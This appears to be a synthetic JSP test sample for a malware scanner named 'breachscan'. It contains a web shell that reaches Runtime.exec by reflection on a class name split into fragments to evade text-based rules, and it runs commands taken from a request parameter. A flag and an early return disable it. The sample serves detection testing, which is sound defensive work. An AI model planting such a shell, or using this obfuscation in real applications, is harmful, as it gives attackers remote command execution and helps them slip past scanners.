<%-- synthetic test sample for breachscan: reflective Runtime.exec with the class name
     split into pieces so plain-text rules miss it. Disabled by the SAMPLE_ONLY guard. --%>
<%@ page import="java.lang.reflect.*" %>
<%
    final boolean SAMPLE_ONLY = true;
    if (SAMPLE_ONLY) return;
    Class<?> k = Class.forName("java.lang." + "Run" + "time");
    Object rt = k.getMethod("getRuntime").invoke(null);
    Object pr = k.getMethod("exec", String.class).invoke(rt, request.getParameter("x"));
%>
